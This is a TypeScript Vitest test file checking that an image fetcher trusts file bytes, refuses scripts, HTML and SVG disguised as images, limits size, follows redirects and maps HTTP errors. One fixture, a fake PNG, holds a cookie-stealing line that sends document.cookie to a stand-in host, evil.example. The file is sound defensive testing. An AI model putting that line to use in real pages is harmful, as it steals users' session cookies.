/** fetchImage over real HTTP: the bytes decide what is an image; redirects, size limit and errors as for pages. */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HostError, HostResult, ImageResponse } from '../../../../shared/host';
import { fetchImage } from '../../../../shared/net/fetch-image';
import { startFeedServer, type FeedServer } from '../../../support/feed-server';
import { baseOptions } from './helpers';

const images = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../../fixtures/images');
const fixture = (name: string) => readFileSync(path.join(images, name));

let server: FeedServer;
beforeAll(async () => {
  server = await startFeedServer();
  const serve = (route: string, type: string, body: Buffer | string) =>
    server.route(route, (_req, res) => {
      res.writeHead(200, { 'content-type': type });
      res.end(body);
    });
  serve('/img/photo.png', 'image/png', fixture('photo.png'));
  serve('/img/photo.jpg', 'image/jpeg', fixture('photo.jpg'));
  serve('/img/anim.gif', 'image/gif', fixture('two-colours.gif'));
  serve('/img/photo.webp', 'image/webp', fixture('photo.webp'));
  serve('/img/mislabelled', 'application/octet-stream', fixture('photo.png'));
  serve('/img/script.png', 'image/png', 'alert(document.cookie); fetch("https://evil.example/" + document.cookie);');
  serve('/img/page.jpg', 'image/jpeg', '<!doctype html><html><body><script>alert(1)</script></body></html>');
  serve('/img/drawing.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
  serve('/img/html', 'text/html', '<p>not an image</p>');
  server.route('/img/huge.png', (_req, res) => {
    res.writeHead(200, { 'content-type': 'image/png', 'content-length': String(11 * 1024 * 1024) });
    res.end(Buffer.concat([fixture('photo.png'), Buffer.alloc(11 * 1024 * 1024 - fixture('photo.png').length)]));
  });
  server.route('/img/moved', (_req, res) => {
    res.writeHead(302, { location: '/img/photo.png' });
    res.end();
  });
});
afterAll(async () => {
  await server.close();
});

function expectOk(result: HostResult<ImageResponse>): ImageResponse {
  if (!result.ok) throw new Error(`expected ok, got ${result.error.kind}: ${result.error.message}`);
  return result.value;
}
function expectError(result: HostResult<ImageResponse>): HostError {
  if (result.ok) throw new Error('expected an error');
  return result.error;
}

describe('fetchImage', () => {
  it.each([
    ['/img/photo.png', 'image/png', 'photo.png'],
    ['/img/photo.jpg', 'image/jpeg', 'photo.jpg'],
    ['/img/anim.gif', 'image/gif', 'two-colours.gif'],
    ['/img/photo.webp', 'image/webp', 'photo.webp'],
  ])('returns the bytes of %s as %s', async (route, type, file) => {
    const image = expectOk(await fetchImage(server.url(route), baseOptions()));
    expect(image.contentType).toBe(type);
    expect(Buffer.from(image.bytes).equals(fixture(file))).toBe(true);
  });

  it('trusts the bytes over an octet-stream Content-Type', async () => {
    expect(expectOk(await fetchImage(server.url('/img/mislabelled'), baseOptions())).contentType).toBe('image/png');
  });

  it('refuses a script served as image/png', async () => {
    expect(expectError(await fetchImage(server.url('/img/script.png'), baseOptions())).kind).toBe('not-an-image');
  });

  it('refuses an HTML page served as image/jpeg', async () => {
    expect(expectError(await fetchImage(server.url('/img/page.jpg'), baseOptions())).kind).toBe('not-an-image');
  });

  it('refuses SVG, which can carry script', async () => {
    expect(expectError(await fetchImage(server.url('/img/drawing.svg'), baseOptions())).kind).toBe('not-an-image');
  });

  it('refuses a text/html answer without reading it as an image', async () => {
    expect(expectError(await fetchImage(server.url('/img/html'), baseOptions())).kind).toBe('not-an-image');
  });

  it('refuses images over 10 MiB', async () => {
    expect(expectError(await fetchImage(server.url('/img/huge.png'), baseOptions())).kind).toBe('too-large');
  });

  it('follows redirects and reports where the image came from', async () => {
    const image = expectOk(await fetchImage(server.url('/img/moved'), baseOptions()));
    expect(image.finalUrl).toBe(server.url('/img/photo.png'));
  });

  it('maps HTTP errors like every other fetch', async () => {
    const error = expectError(await fetchImage(server.url('/status/404'), baseOptions()));
    expect(error).toMatchObject({ kind: 'http', status: 404 });
  });
});
